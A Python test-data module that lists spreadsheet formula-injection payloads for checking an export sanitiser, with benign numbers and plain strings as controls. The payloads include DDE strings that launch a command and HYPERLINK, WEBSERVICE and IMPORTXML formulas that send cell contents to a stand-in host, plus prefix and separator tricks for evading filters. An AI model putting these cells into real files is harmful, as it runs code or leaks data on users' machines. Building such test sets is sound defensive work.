"""Texts that want to be more than text: formulas for spreadsheets, markup and marks for pages."""

from __future__ import annotations

MARKER = "sr-injected"
"""The element, attribute or dialog of this name must never come to be on a page."""

_CALLS = (
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://192.0.2.1/"&A1)',
    '=IMPORTXML(CONCAT("http://192.0.2.1/",A1),"//a")',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1+A1",
    "\uff20SUM(A1)",
    "\ufe661+1",
    "%0A-2+3",
    "|calc",
)
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\u200b", "\ufeff", '"', "' ", '""', "\u00a0\t ")


def formulas() -> tuple[str, ...]:
    """208 cells of which each would run in some spreadsheet."""
    return tuple(before + call for call in _CALLS for before in _BEFORE)


SECOND_CELLS = tuple(f"harmless{mark}{call}" for mark in (";", ';"', "\t", "\r\n") for call in _CALLS[:9])
"""Cells that hold a second one where a spreadsheet parts at semicolons, tabs or line ends."""

NUMBERS = ("-1", "-12.50", "-1,234.50", "-1.234,50", "-1'234.50", "-5%", "0", "12.50", "1e5")
PLAIN = ("ACME", "a-b", "a=b", "info@example.org", "Total: 5", "(3)", "Müller & Söhne", "5 % off", "")
